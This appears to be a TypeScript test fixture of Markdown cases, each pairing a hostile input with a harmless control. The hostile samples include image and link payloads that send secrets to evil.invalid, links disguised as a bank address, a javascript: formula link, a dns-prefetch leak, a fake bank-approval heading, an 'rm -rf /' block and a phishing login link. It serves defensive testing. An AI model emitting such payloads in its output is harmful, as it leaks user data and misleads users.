import { cases, inKey, inRefusal, inText } from './case.testkit.ts';

/** Text that a Markdown renderer would fetch, link or lay out differently. */
export const markdown = [
  ...cases('markdown', 'as it is', inText, [
    ['an image that reports', '![x](https://evil.invalid/p.png?d=secret)', '! (picture) of x'],
    [
      'an image by reference',
      '![x][1]\n\n[1]: https://evil.invalid/?q=secret',
      'see [1]\n\n[1]: a book',
    ],
    ['an image in a link', '[![](//evil.invalid/a)](//evil.invalid/b)', '[[a]] [[b]]'],
    ['an image as HTML', '<img src="https://evil.invalid/?d=secret" width=1>', 'width=1'],
    [
      'a link that says another',
      '[https://bank.example](https://evil.invalid)',
      '[bank](see below)',
    ],
    ['a link with a title', '[ok](https://evil.invalid "https://bank.example")', '[ok] "bank"'],
    ['a bare address', 'See https://evil.invalid/?d=secret', 'See chapter 4'],
    ['an autolink', '<https://evil.invalid/?d=secret>', '<chapter 4>'],
    ['a mail address', '<mailto:all@evil.invalid?bcc=x>', '<all of us>'],
    ['a heading', '# Approved by your bank\n\nNothing to do.', '# Notes\n\nNothing yet.'],
    [
      'a table',
      '| Risk | low |\n| --- | --- |\n| Sent | no |',
      '| a | b |\n| --- | --- |\n| 1 | 2 |',
    ],
    ['a task that is ticked', '- [x] Reviewed by a person', '- [x] Bought milk'],
    ['a code block around the truth', '```\nrm -rf /\n```\nharmless', '```\nls\n```\nharmless'],
    ['a footnote', 'Pay 5[^1]\n\n[^1]: 5,000,000', 'Pay 5[^1]\n\n[^1]: in cash'],
    ['a formula', '$$\\href{javascript:__pwned=1}{x}$$', '$$x^2$$'],
    [
      'a diagram',
      '```mermaid\ngraph TD; click A href "//evil.invalid"\n```',
      '```text\nA to B\n```',
    ],
    ['a comment', '[//]: # (pay the other account)', '(see the other page)'],
    ['a struck number', '~~5,000~~ **5**', '~5,000~ *5*'],
    ['a style sheet', '<link rel=stylesheet href=//evil.invalid/x.css>', 'link rel'],
    ['a preconnection', '<link rel=dns-prefetch href=//secret.evil.invalid>', 'dns prefetch'],
  ]),
  ...cases('markdown', 'as it is', inKey, [
    ['an image as a key', '![](https://evil.invalid/k)', '!(k)'],
  ]),
  ...cases('markdown', 'as it is', inRefusal, [
    ['an image as a refusal', '![](https://evil.invalid/r) Try again', '(r) Try again'],
    ['a link as a refusal', '[Confirm here](https://evil.invalid/login)', '[Confirm later]'],
  ]),
];
